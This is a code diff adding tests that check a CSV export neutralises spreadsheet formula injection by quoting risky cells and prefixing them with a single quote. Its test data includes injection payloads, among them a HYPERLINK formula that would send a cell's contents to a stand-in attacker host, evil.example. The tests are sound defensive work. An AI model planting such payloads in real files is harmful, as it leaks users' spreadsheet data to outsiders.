@@ -114,3 +114,70 @@ describe("documents export: every document once, newest day first, across pages"
   });
 });
 
+/** RFC 4180 CSV, enough to read the export back. */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let cell = "";
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const ch = text[i]!;
+    if (quoted) {
+      if (ch === '"' && text[i + 1] === '"') (cell += '"'), i++;
+      else if (ch === '"') quoted = false;
+      else cell += ch;
+    } else if (ch === '"') quoted = true;
+    else if (ch === ",") row.push(cell), (cell = "");
+    else if (ch === "\r" && text[i + 1] === "\n") row.push(cell), rows.push(row), (row = []), (cell = ""), i++;
+    else cell += ch;
+  }
+  return rows;
+}
+
+describe("CSV export: text that a spreadsheet would run as a formula is written as text (OWASP CSV injection)", () => {
+  // Every character OWASP lists as starting a formula, in values that come from outside (Oura, a webhook's sender).
+  const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"];
+  let running: RunningServer;
+  beforeAll(async () => {
+    running = await startTestServer({ API_TOKEN: TEST_API_TOKEN });
+    await running.store.recordPolledDocuments("USER-CSV", "daily_sleep", HOSTILE.map((id, i) => ({ id, day: `2026-07-0${i + 1}`, score: -5 })), OBSERVED_AT);
+    for (const userId of HOSTILE) expect((await deliver(running.url, sampleNotification({ user_id: userId, data_type: "workout", object_id: "-42" }))).status).toBe(201);
+  });
+  afterAll(async () => {
+    await running.stop();
+  });
+
+  async function csv(query: string): Promise<{ text: string; rows: Record<string, string>[] }> {
+    const response = await fetch(new URL(`/export?format=csv${query}`, running.url), { headers: auth });
+    expect(response.headers.get("content-type")).toContain("text/csv");
+    const text = await response.text();
+    const [header, ...rows] = parseCsv(text);
+    return { text, rows: rows.map((cells) => Object.fromEntries(header!.map((column, i) => [column, cells[i]!]))) };
+  }
+
+  test("documents: each such cell is quoted and starts with a single quote; the value is otherwise unchanged", async () => {
+    const { text, rows } = await csv("&what=documents&user_id=USER-CSV");
+    expect(rows.map((row) => row.document_id).toSorted()).toEqual(HOSTILE.map((value) => `'${value}`).toSorted());
+    expect(text).toContain(`"'+1+1"`);
+    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""open"")"`);
+    // Nothing else is touched: the day, the JSON document (its -5 inside), numbers we write (event ids) stay bare.
+    for (const row of rows) {
+      expect(row.day).toMatch(/^2026-07-0\d$/);
+      expect(JSON.parse(row.document!).score).toBe(-5);
+      expect(row.event_id).toMatch(/^\d+$/);
+      expect(row.deleted).toBe("false");
+    }
+    expect(text).toMatch(/,\d+,/);
+  });
+
+  test("events: user and object ids from a webhook are neutralised the same way", async () => {
+    const { rows } = await csv("&what=events&data_type=workout");
+    expect(rows.map((row) => row.user_id).toSorted()).toEqual(HOSTILE.map((value) => `'${value}`).toSorted());
+    for (const row of rows) {
+      expect(row.object_id).toBe("'-42");
+      expect(row.id).toMatch(/^\d+$/);
+      expect(JSON.parse(row.notification!).object_id).toBe("-42");
+    }
+  });
+});
+
